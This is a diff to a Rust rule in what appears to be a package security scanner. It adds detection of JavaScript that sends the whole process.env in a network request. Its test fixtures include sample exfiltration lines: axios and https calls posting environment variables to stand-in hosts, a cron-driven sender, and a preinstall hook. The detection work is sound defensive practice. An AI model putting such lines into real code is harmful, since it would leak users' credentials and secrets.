@@ -8,7 +8,9 @@ crate::declare_rule! {
     /// The whole environment is serialised or walked (`JSON.stringify(process.env)`,
     /// `Object.keys/entries/values(process.env)`, `for (k in process.env)`): every secret in it
     /// at once. Diagnostics tools print it locally (`medium`); with network access in the same
-    /// file or at install time it is exfiltration (`high`).
+    /// file or at install time it is exfiltration (`high`). The whole environment put into a
+    /// request to a fixed URL, directly or through a local function that posts its argument,
+    /// is `critical`.
     id: "env-harvest",
     category: Data,
     severity: Medium,
@@ -16,12 +18,15 @@ crate::declare_rule! {
     title: "collects the whole environment",
     incident: "crossenv typosquat (2017) posted base64(JSON.stringify(process.env)); Shai-Hulud (2025) dumped env",
     case_file: "index.js",
-    flag: ["const d = JSON.stringify({ h: os.hostname(), e: process.env }); https.get('https://x.example.net/?d=' + d)",
+    flag: ["const axios = require('axios'); axios.post('https://logs.example.io/i', { host: os.hostname(), env: process.env })",
+           "const axios = require('axios'); function ship(kind, data) { return axios.post(LOGS, { kind, data }) } cron.schedule('*/5 * * * *', () => ship('env', process.env))",
+           "const d = JSON.stringify({ h: os.hostname(), e: process.env }); https.get('https://x.example.net/?d=' + d)",
            "const data = Buffer.from(JSON.stringify(process.env)).toString('base64')",
            "const e = process.env; for (const k in e) out[k] = e[k]",
            "Object.entries(process.env).forEach(([k, v]) => send(k, v))",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node index.js\"}}\n=== index.js\nconst os = require('os'); const https = require('https'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), p: os.platform() }); https.get('https://c.example/?d=' + d)"],
     pass: ["spawn('node', ['build.js'], { env: process.env, stdio: 'inherit' }); console.log(JSON.stringify({ ok: true }))",
+           "const https = require('https'); function run(cmd) { return execa(cmd, [], { env: process.env }) } https.get(u, cb); run('ls')",
            "const token = process.env.API_TOKEN", "spawn(cmd, args, { env: { ...process.env, FOO: '1' } })", "const env = Object.assign({}, process.env, { A: 1 })"],
 }
 
@@ -97,6 +102,19 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 })
                 .flatten()
         });
+        // The whole environment as the payload of a request: inside the arguments of a network
+        // call, or of a local function that posts its argument (one hop). Spawn options pass
+        // `env: process.env` to child processes, which is not a request.
+        if let Some(off) = env_in_request(f) {
+            out.hit_sev(
+                Severity::Critical,
+                pkg,
+                f,
+                off,
+                "sends the whole environment (process.env) in a network request",
+            );
+            continue;
+        }
         let Some((off, what)) = hit else { continue };
         let exfil = super::has_network(f);
         let sev = if exfil || pkg.is_install_file(f) {
@@ -122,4 +140,45 @@ fn check(pkg: &Package, out: &mut Emitter) {
             format!("collects every environment variable ({what}){tail}"),
         );
     }
+}
+
+/// Where the whole `process.env` is put into a request's arguments, directly or through a local
+/// function whose body posts its arguments.
+fn env_in_request(f: &crate::package::FileCtx) -> Option<u32> {
+    let text = &f.text;
+    if !text.contains("process.env") || !super::has_network(f) {
+        return None;
+    }
+    static DIRECT: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
+        crate::rules::compile(&format!(
+            r"{}\s*['\x22`][^'\x22`]+['\x22`]\s*,{}",
+            r"(?:axios(?:_\d+\.default)?\.(?:post|put|patch)|\bfetch|https?\.request|\bgot\.post|\$\.(?:post|ajax)|navigator\.sendBeacon)\(",
+            r"[^;]{0,300}?(?:[:,(]\s*process\.env\s*[,})]|\.\.\.process\.env\b)"
+        ))
+    });
+    if let Some(m) = DIRECT.find(text) {
+        return Some(m.start() as u32);
+    }
+    // function ship(kind, data) { … axios.post(URL, { kind, data }) … } … ship("env", process.env)
+    let wrapper = crate::regex!(
+        r"function\s+(\w+)\s*\([^)]*\)\s*\{[^}]{0,300}?(?:axios(?:_\d+\.default)?\.(?:post|put|patch)|\bfetch|https?\.request|\bgot\.post|navigator\.sendBeacon)\("
+    );
+    let env_arg =
+        crate::regex!(r"^[^;]{0,300}?(?:[:,(]\s*process\.env\s*[,})]|\.\.\.process\.env\b)");
+    for c in wrapper.captures_iter(text).take(16) {
+        let call = format!("{}(", &c[1]);
+        let decl = c.get(0).map_or(0..0, |m| m.range());
+        for (at, _) in text.match_indices(call.as_str()).take(64) {
+            let before = text[..at].chars().next_back();
+            if decl.contains(&at)
+                || before.is_some_and(|ch| ch.is_alphanumeric() || ch == '_' || ch == '.')
+            {
+                continue;
+            }
+            if env_arg.is_match(&text[at + call.len()..]) {
+                return Some(at as u32);
+            }
+        }
+    }
+    None
 }
